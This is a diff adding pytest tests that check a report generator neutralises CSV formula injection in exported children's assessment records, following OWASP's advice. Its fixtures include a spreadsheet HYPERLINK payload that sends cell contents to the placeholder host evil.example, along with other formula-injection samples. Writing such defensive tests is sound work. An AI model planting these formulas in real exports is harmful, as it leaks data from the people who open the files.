@@ -7,6 +7,7 @@ in the comments, independently of reportgen.
 
 from __future__ import annotations
 
+import csv
 import shutil
 import textwrap
 from collections.abc import Callable
@@ -789,3 +790,57 @@ def it_says_when_a_rule_needs_a_column_annex_a_does_not_have(tmp_path: Path) -> 
         "instead of the Annex A sheet, or map a column of the sheet to it under "
         "`case_records: columns: episodes:` in config/authority.yaml"
     ]
+
+
+def it_writes_the_childrens_records_so_that_a_spreadsheet_runs_no_formula(
+    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Child ids come from other people's systems: a cell that starts with = + - or @ is
+    written with a single quote before it (OWASP's advice on CSV injection), the rest as it
+    was; a plain number such as a negative count is data, and so are the counts."""
+    ids = {
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+SUM(1,2)": "'+SUM(1,2)",
+        "-2+3": "'-2+3",
+        "@cmd": "'@cmd",
+        "-7": "-7",
+        "A'1": "A'1",
+    }
+    rows = "".join(
+        f'"{i.replace(chr(34), chr(34) * 2)}",2026-09-0{n},2026-09-1{n}\n'
+        for n, i in enumerate(ids, 1)
+    )
+    table = "LAchildID,AssessmentActualStartDate,AssessmentAuthorisationDate\n" + rows
+    root = write_project(tmp_path, SA45, {"assessments.csv": table})
+    monkeypatch.chdir(root)
+    result = cli("explain", "SA45", "--period", "2026-09")
+    assert result.exit_code == 0, result.stderr
+    with (root / "out/explain/SA45-2026-09.csv").open(newline="", encoding="utf-8") as file:
+        header, *read = list(csv.reader(file))
+    assert header[:2] == ["child", "line"] and header[6] == "measure"
+    by_line = {int(row[1]): row for row in read}
+    assert [by_line[n][0] for n in range(2, 2 + len(ids))] == list(ids.values())
+    assert all(row[6].isdigit() for row in read)  # working days: numbers, as they were
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+44 20 7946 0000", "'+44 20 7946 0000"),
+        ("-A1", "'-A1"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-3", "-3"),  # a plain number is data
+        ("+4.5", "+4.5"),
+        ("-1e3", "-1e3"),
+        ("A-1", "A-1"),
+        ("", ""),
+        (-3, -3),  # numbers are not text
+    ],
+)
+def it_makes_a_cell_safe_for_a_spreadsheet_as_owasp_advises(cell: object, written: object) -> None:
+    from reportgen.jobs.explain import csv_safe
+
+    assert csv_safe(cell) == written
